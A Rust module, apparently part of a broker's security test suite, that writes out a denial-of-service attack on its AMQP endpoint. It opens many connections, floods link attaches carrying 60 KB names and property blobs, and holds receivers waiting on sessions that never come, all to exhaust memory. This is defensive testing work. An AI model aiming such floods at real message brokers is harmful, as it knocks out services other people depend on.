//! Links over AMQP that cost much memory: names as long as a frame, answered and read; and
//! receivers with properties as large as a frame that wait for a session.

use peeklock_amqp::codec::value::{Map, Raw};
use peeklock_amqp::performative::Attach;
use peeklock_amqp::terminus::Source;
use serde_json::json;

use super::super::amqp::{WINDOW, attach, encoded, open, receiver};
use super::super::attacker::{Attack, flood};
use super::super::broker::Broker;
use super::super::wire::ask;

const LINKS: u32 = 250;
const BYTES: usize = 60_000;

pub fn attack(broker: &Broker, weight: usize) -> Attack {
    let sessions = json!({ "requiresSession": true }).to_string();
    let made = ask(broker.http, "PUT", "/$api/v1/queues/attacked", &sessions).unwrap();
    assert_eq!(made.status, 201);
    let waiting: Vec<u8> =
        (0..LINKS).flat_map(|handle| encoded(0, &attach(waiting(handle)), &[])).collect();
    let mut attack = Attack::default();
    for number in 0..48 * weight.min(4) {
        let Ok(mut client) = open(broker.amqp, WINDOW) else { continue };
        if number % 2 == 0 {
            flood(&mut client.stream, &waiting, 1);
        } else {
            for handle in 0..LINKS {
                let name = format!("{handle}-{}", "x".repeat(BYTES)).into();
                // Refused or not, there is room for another link.
                client.attach(&Attach { name, ..receiver(handle, "$cbs") }).ok();
            }
        }
        attack.hold(client);
    }
    attack
}

/// A receiver that waits for the next session, of which there is none.
fn waiting(handle: u32) -> Attach {
    let any = Raw::encoded(|bytes| bytes.push(0x40));
    let filter = Some(Map::of_symbols([("com.microsoft:session-filter", any)]));
    let blob = Raw::encoded(|bytes| {
        bytes.push(0xb0);
        bytes.extend(u32::try_from(BYTES).unwrap().to_be_bytes());
        bytes.extend(vec![0; BYTES]);
    });
    let source = Source { filter, ..Source::at("attacked") };
    let properties = Some(Map::of_symbols([("blob", blob)]));
    Attach { source: Some(source), properties, ..receiver(handle, "attacked") }
}
